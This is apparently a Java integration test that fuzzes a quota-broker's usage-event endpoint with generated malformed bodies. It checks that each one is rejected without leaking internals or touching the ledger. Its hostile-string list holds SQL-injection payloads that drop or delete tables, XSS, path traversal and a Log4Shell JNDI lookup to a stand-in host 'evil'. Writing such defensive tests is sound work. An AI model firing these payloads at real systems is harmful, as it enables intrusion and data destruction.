package io.github.quotabroker.security;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

import io.github.quotabroker.support.Api;
import io.github.quotabroker.support.IntegrationTestBase;
import io.github.quotabroker.support.Ledger;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import org.springframework.mock.web.MockHttpServletResponse;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * Fuzz: thousands of generated malformed or hostile bodies posted to
 * {@code POST /usage-events} each get a 4xx problem that leaks nothing, and none of them
 * writes to the ledger. Every body is built from a valid event (team {@code alpha}, pool
 * {@code shared}) with at least one defect, so anything let through would be counted.
 */
class HostileInputIT extends IntegrationTestBase {

	private static final int BODIES = 1500;

	private static final List<String> LEAKS = List.of("at io.", "at java.", "at org.", "Exception", "org.postgresql",
			"SQL", "select ", "insert ", "tools.jackson", "jakarta.", "\tat ");

	private static final List<String> HOSTILE_STRINGS = List.of("'; drop table usage_events; --", "' or '1'='1",
			"1; delete from usage_events", "\"; truncate usage_minute_buckets; --", "alpha' --", "alpha\"--",
			"<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
			"${jndi:ldap://evil/a}", "{{7*7}}", "../../etc/passwd", "alpha\u0000", "alpha\n", "al\rpha",
			"\u0007\u0008\u001b[31m", "alpha%00", "%27%20or%201=1", "\u202eahpla", " alpha", "alpha ", "", " ", "\t",
			"ａｌｐｈａ", "😀", "-alpha", ".alpha", "alpha;", "alpha,beta", "alpha\\");

	private static final List<String> STRING_FIELDS = List.of("eventId", "teamId", "memberId", "agentId", "model",
			"occurredAt", "kind", "reservationId");

	private static final List<String> REQUIRED = List.of("eventId", "teamId", "model", "occurredAt");

	private static final List<String> NUMBER_FIELDS = List.of("inputTokens", "outputTokens", "cacheReadTokens",
			"cacheCreationTokens", "messages", "costUsd");

	// Not here: 1e-407, which JSON parsing underflows to 0.0 and the service accepts as 0
	// (reported; harmless, as it counts nothing).
	private static final List<String> BAD_NUMBERS = List.of("1e400", "-1e400", "99999999999999999999999",
			"-99999999999999999999999", "9223372036854775808", "-1", "1.5", "1e19", "NaN", "Infinity", "-Infinity",
			"0x10", "01", "+1", "1_000", "1e", "--1", ".5", "1.", "100000001", "1" + "0".repeat(2000));

	private static final List<String> WRONG_TYPES = List.of("true", "false", "[]", "{}", "[1,2]", "{\"a\":1}", "\"\"",
			"\"12\"", "\"x\"", "[\"alpha\"]", "{\"$gt\":\"\"}");

	private Random random;

	@BeforeEach
	void setUp() throws Exception {
		Api api = new Api(this.mvc);
		api.rollingPool("shared", 1_000_000, "PT5H", "*");
		api.team("alpha", "UTC");
		api.allocate("shared", "alpha");
		api.usage("seed", "alpha", "claude-x", "2026-11-25T11:00:00Z", 1).andExpect(status().isOk());
		this.random = new Random(20261125L);
	}

	@Test
	void everyHostileBodyIsAProblemAndNothingIsWritten() throws Exception {
		Ledger ledger = new Ledger(this.jdbc);
		long events = ledger.events();
		long minutes = ledger.minuteBuckets();
		long hours = ledger.hourBuckets();
		long minuteAmount = ledger.bucketAmount("minute", "shared");
		List<byte[]> bodies = bodies();
		assertThat(bodies).hasSizeGreaterThanOrEqualTo(1000);
		Map<Integer, Integer> statuses = new LinkedHashMap<>();
		Api api = new Api(this.mvc);
		for (int i = 0; i < bodies.size(); i++) {
			byte[] body = bodies.get(i);
			MockHttpServletResponse response = api.post("/usage-events", body).andReturn().getResponse();
			String shown = new String(body, 0, Math.min(body.length, 2000), StandardCharsets.UTF_8);
			String answer = response.getContentAsString(StandardCharsets.UTF_8);
			assertThat(response.getStatus()).as("body #%d %s -> %s", i, shown, answer).isBetween(400, 499);
			assertThat(response.getContentType()).as("body #%d %s", i, shown).startsWith("application/problem+json");
			assertThat(answer).as("body #%d %s", i, shown)
				.contains("\"type\":\"https://quota-broker.github.io/problems/");
			for (String leak : LEAKS) {
				assertThat(answer).as("body #%d %s", i, shown).doesNotContain(leak);
			}
			statuses.merge(response.getStatus(), 1, Integer::sum);
		}
		System.out.println("[hostile input] " + bodies.size() + " bodies, statuses " + statuses);
		assertThat(ledger.events()).isEqualTo(events);
		assertThat(ledger.minuteBuckets()).isEqualTo(minutes);
		assertThat(ledger.hourBuckets()).isEqualTo(hours);
		assertThat(ledger.bucketAmount("minute", "shared")).isEqualTo(minuteAmount);
		// The service still works afterwards.
		api.usage("after", "alpha", "claude-x", "2026-11-25T11:00:00Z", 1).andExpect(status().isOk());
		assertThat(ledger.events()).isEqualTo(events + 1);
	}

	private List<byte[]> bodies() {
		List<byte[]> bodies = new ArrayList<>();
		// Fixed cases first.
		for (String text : List.of("", " ", "null", "true", "0", "\"event\"", "[]", "{}", "[{}]", "[null]", "[[]]", "{",
				"}", "[", "{\"eventId\":", "{\"eventId\":\"a\"", "{'eventId':'a'}", "{eventId:\"a\"}",
				"{\"eventId\":\"a\",}", "/* c */ {}", "\u0000", "\uFEFF{}", "[1,2,3]", "1e400",
				"99999999999999999999999")) {
			bodies.add(bytes(text));
		}
		bodies.add(new byte[] { (byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE });
		bodies.add(new byte[] { '{', '"', 'e', (byte) 0xFF, '"', ':', '1', '}' });
		byte[] nonUtf8Id = bytes(valid(Map.of("eventId", "\"evXX\"")));
		for (int i = 0; i < nonUtf8Id.length - 1; i++) {
			if (nonUtf8Id[i] == 'X' && nonUtf8Id[i + 1] == 'X') {
				nonUtf8Id[i] = (byte) 0xC0;
				nonUtf8Id[i + 1] = (byte) 0xAF;
				break;
			}
		}
		bodies.add(nonUtf8Id);
		for (int depth : new int[] { 600, 1000, 10_000, 100_000 }) {
			bodies.add(bytes("[".repeat(depth) + "]".repeat(depth)));
			bodies.add(bytes("[".repeat(depth)));
			bodies.add(bytes("{\"a\":".repeat(depth) + "1" + "}".repeat(depth)));
			bodies.add(bytes(valid(Map.of("memberId", "[".repeat(depth) + "]".repeat(depth)))));
		}
		bodies.add(bytes(valid(Map.of("model", "\"" + "m".repeat(2 * 1024 * 1024) + "\""))));
		bodies.add(bytes(valid(Map.of("eventId", "\"" + "e".repeat(201) + "\""))));
		bodies.add(bytes(valid(Map.of("teamId", "\"" + "t".repeat(65) + "\""))));
		// Batches: too many items, and valid items mixed with one bad one.
		for (int n : new int[] { 1001, 1500 }) {
			StringBuilder batch = new StringBuilder("[");
			for (int i = 0; i < n; i++) {
				batch.append((i == 0) ? "" : ",").append(valid(Map.of("eventId", "\"batch-" + n + "-" + i + "\"")));
			}
			bodies.add(bytes(batch.append("]").toString()));
		}
		for (int k = 0; k < 20; k++) {
			StringBuilder batch = new StringBuilder("[");
			int bad = this.random.nextInt(50);
			for (int i = 0; i < 50; i++) {
				batch.append((i == 0) ? "" : ",")
					.append((i == bad) ? defective() : valid(Map.of("eventId", "\"mixed-" + k + "-" + i + "\"")));
			}
			bodies.add(bytes(batch.append("]").toString()));
		}
		while (bodies.size() < BODIES) {
			int kind = this.random.nextInt(4);
			String body = switch (kind) {
				case 0 -> randomJson(0);
				case 1 -> defective();
				case 2 -> "[" + defective() + "]";
				default -> defective() + ((this.random.nextBoolean()) ? "garbage" : "");
			};
			if (kind == 0 && body.startsWith("{") && !body.contains("\"k")) {
				continue; // a random object always has an unknown field; see randomJson
			}
			bodies.add(bytes(body));
		}
		return bodies;
	}

	/** A valid event with one to three defects. */
	private String defective() {
		Map<String, String> changes = new LinkedHashMap<>();
		int defects = 1 + this.random.nextInt(3);
		for (int d = 0; d < defects; d++) {
			switch (this.random.nextInt(7)) {
				case 0 -> changes.put(pick(STRING_FIELDS), hostileString());
				case 1 -> changes.put(pick(STRING_FIELDS), randomNumber());
				case 2 -> {
					String field = pick(NUMBER_FIELDS);
					String value = pick(BAD_NUMBERS);
					// 1.5 is a fine cost; seven decimals are not.
					changes.put(field, (field.equals("costUsd") && value.equals("1.5")) ? "1.1234567" : value);
				}
				case 3 -> changes.put(pick(NUMBER_FIELDS), pick(WRONG_TYPES));
				case 4 -> changes.put(pick(REQUIRED), this.random.nextBoolean() ? "null" : null);
				case 5 -> changes.put(pick(List.of("isAdmin", "role", "__proto__", "constructor", "extra", "team_id",
						"eventID", "Messages", "id")), randomJson(2));
				// A string is the right type for a string field.
				default -> changes.put(pick(STRING_FIELDS),
						pick(WRONG_TYPES.stream().filter((v) -> !v.startsWith("\"")).toList()));
			}
		}
		return valid(changes);
	}

	private String hostileString() {
		String s = pick(HOSTILE_STRINGS);
		// Prefixed with a valid id only when still invalid anywhere in an id.
		if (this.random.nextInt(5) == 0 && s.matches("(?s).*[^A-Za-z0-9._:@/+=-].*")) {
			s = "alpha" + s;
		}
		if (this.random.nextInt(10) == 0) {
			s = s.repeat(50);
		}
		return quote(s);
	}

	private String randomNumber() {
		return this.random.nextBoolean() ? Long.toString(this.random.nextLong())
				: Double.toString(this.random.nextDouble() * 1e300);
	}

	/**
	 * A valid event of team alpha, with fields replaced by raw JSON ({@code null} value:
	 * the field is left out).
	 */
	private static String valid(Map<String, String> changes) {
		Map<String, String> fields = new LinkedHashMap<>();
		fields.put("eventId", "\"ev-" + Integer.toHexString(changes.hashCode()) + "\"");
		fields.put("teamId", "\"alpha\"");
		fields.put("memberId", "\"ana\"");
		fields.put("model", "\"claude-x\"");
		fields.put("occurredAt", "\"2026-11-25T11:30:00Z\"");
		fields.put("messages", "1");
		fields.put("inputTokens", "100");
		fields.put("outputTokens", "50");
		for (Map.Entry<String, String> change : changes.entrySet()) {
			fields.put(change.getKey(), change.getValue());
		}
		StringBuilder json = new StringBuilder("{");
		fields.forEach((name, value) -> {
			if (value != null) {
				json.append((json.length() == 1) ? "" : ",").append('"').append(name).append("\":").append(value);
			}
		});
		return json.append('}').toString();
	}

	/** Random JSON; objects always carry at least one unknown field {@code k...}. */
	private String randomJson(int depth) {
		int kind = (depth > 3) ? this.random.nextInt(4) : this.random.nextInt(6);
		return switch (kind) {
			case 0 -> randomNumber();
			case 1 -> pick(List.of("true", "false", "null", "0", "-0", "1e400", "99999999999999999999999"));
			case 2 -> hostileString();
			case 3 -> quote(randomText());
			case 4 -> {
				StringBuilder a = new StringBuilder("[");
				int n = this.random.nextInt(5);
				for (int i = 0; i < n; i++) {
					a.append((i == 0) ? "" : ",").append(randomJson(depth + 1));
				}
				yield a.append(']').toString();
			}
			default -> {
				StringBuilder o = new StringBuilder("{\"k" + this.random.nextInt(1000) + "\":")
					.append(randomJson(depth + 1));
				int n = this.random.nextInt(4);
				for (int i = 0; i < n; i++) {
					o.append(",").append(quote(pick(STRING_FIELDS))).append(':').append(randomJson(depth + 1));
				}
				yield o.append('}').toString();
			}
		};
	}

	private String randomText() {
		StringBuilder s = new StringBuilder();
		int n = this.random.nextInt(30);
		for (int i = 0; i < n; i++) {
			s.append((char) (this.random.nextInt(0x2FF) + 1));
		}
		return s.toString();
	}

	/** A JSON string literal, control characters escaped as JSON requires. */
	private static String quote(String s) {
		StringBuilder q = new StringBuilder("\"");
		for (char c : s.toCharArray()) {
			if (c == '"' || c == '\\') {
				q.append('\\').append(c);
			}
			else if (c < 0x20) {
				q.append(String.format("\\u%04x", (int) c));
			}
			else {
				q.append(c);
			}
		}
		return q.append('"').toString();
	}

	private <T> T pick(List<T> values) {
		return values.get(this.random.nextInt(values.size()));
	}

	private static byte[] bytes(String s) {
		return s.getBytes(StandardCharsets.UTF_8);
	}

}
